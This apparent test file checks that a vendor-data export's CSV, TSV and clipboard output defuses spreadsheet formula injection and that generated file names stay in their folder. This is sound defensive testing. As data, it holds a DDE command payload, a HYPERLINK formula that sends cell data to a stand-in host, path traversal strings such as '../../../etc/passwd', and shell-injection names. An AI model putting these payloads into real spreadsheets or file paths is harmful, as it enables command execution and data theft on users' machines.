import assert from 'node:assert/strict';
import { basename, join, normalize } from 'node:path';
import Papa from 'papaparse';
import type { ExportOptions } from '../../src/export/exportText';
import { exportText } from '../../src/export/exportText';
import { fileName } from '../../src/export/exportTexts';
import { copyText } from '../../src/export/copyText';
import { fileNameOf } from '../../src/requests/fileName';
import { hostileLinks } from './support/hostileLinks';
import { Tally } from './support/tally';

/** What spreadsheets run, behind everything that they skip. */
const formulas: readonly string[] = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'].flatMap(
  (sign) =>
    [
      '',
      ' ',
      '\t',
      '\r',
      '\n',
      '\r\n',
      '\u00a0',
      '\ufeff',
      '\u200b',
      '\u00ad',
      '\u2060',
      '\u202e',
      '\u0000',
      '\u0001',
      '\u001f',
      ' \t ',
    ].flatMap((before) =>
      ["cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?"&A1,"x")', 'SUM(1,2);1\t"'].map(
        (rest) => `${before}${sign}${rest}`,
      ),
    ),
);

/** Whether a spreadsheet may take a cell for a formula: it skips what nobody sees. */
const isFormula = (cell: string) =>
  /^[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell.replace(/^[\s\p{Cc}\p{Cf}]+/u, '')) || /^[\t\r\n]/.test(cell);

describe('A file or a clipboard with a vendor’s data', () => {
  const tally = new Tally('export attacks');
  after(() => {
    tally.print();
  });

  const columns = [...formulas.slice(0, 40), 'plain'].map((id) => ({ id, kind: 'text' as const }));
  const rows = formulas.map((formula, index) => ({
    plain: formula,
    [columns[index % 40]!.id]: formula,
  }));

  for (const separator of [',', ';', '\t'] as const)
    it(`has no formula in a CSV with ${JSON.stringify(separator)}`, () => {
      const options: ExportOptions = {
        format: 'csv',
        separator,
        bom: true,
        guardFormulas: true,
        nested: 'json',
      };
      const text = [...exportText(rows, columns, options)].map((part) => part.text).join('');
      const { data } = Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { delimiter: separator });
      assert.equal(data.length, rows.length + 2, 'the names, the rows and the last line end');
      for (const cell of data.flat()) {
        tally.add('CSV cells');
        assert.ok(!isFormula(cell), JSON.stringify(cell));
      }
    });

  for (const format of ['tsv', 'csv'] as const)
    it(`has none on the clipboard as ${format.toUpperCase()}`, () => {
      const work = copyText(format, true, columns, rows);
      let step = work.next();
      while (step.done !== true) step = work.next();
      const { data } = Papa.parse<string[]>(step.value, { delimiter: format === 'tsv' ? '\t' : ',' });
      for (const cell of data.flat()) {
        tally.add('copied cells');
        assert.ok(!isFormula(cell), JSON.stringify(cell));
      }
    });

  const names: readonly string[] = [
    ...hostileLinks,
    '../../../etc/passwd',
    '..\\..\\x',
    '/etc/passwd',
    'C:\\x',
    'C:x',
    '.',
    '..',
    '...',
    '.ssh',
    '-rf',
    '~',
    '$HOME',
    '`id`',
    '%APPDATA%',
    'CON',
    'con.json',
    'LPT1',
    'com\u00b9',
    'lpt\u00b3',
    'NUL.txt',
    'a\u0000.exe',
    'a\r\nb',
    '\u202egpj.exe',
    'x'.repeat(5_000),
    '\u{1f600}'.repeat(200),
    '\ud800',
    'a:b',
    'a::$DATA',
    'a ',
    'a.',
    '*?<>|"',
    '__proto__',
    '',
  ];

  it('has a name of plain letters, whatever it is called after', () => {
    for (const name of names)
      for (const extension of ['csv', 'json']) {
        tally.add('file names');
        assert.match(fileName(name, new Date(2026, 10, 22), extension), /^[A-Za-z0-9._-]{1,80}$/);
        assert.doesNotMatch(fileName(name, new Date(2026, 10, 22), extension), /^[.-]/);
      }
  });

  it('of a saved request has a name that stays in its folder, on every system', () => {
    const taken: string[] = [];
    for (const name of names) {
      tally.add('request file names');
      const file = fileNameOf(name, taken);
      taken.push(file);
      assert.equal(basename(normalize(join('folder', file))), file);
      assert.match(file, /^[\p{L}\p{M}\p{N}]+(?:-[\p{L}\p{M}\p{N}]+)*\.json$/u);
      assert.doesNotMatch(file, /^(?:con|prn|aux|nul|(?:com|lpt)[\d\u00b9\u00b2\u00b3])\./i);
      assert.ok(Buffer.byteLength(file) <= 255, file);
    }
    assert.equal(new Set(taken).size, names.length);
  });
});
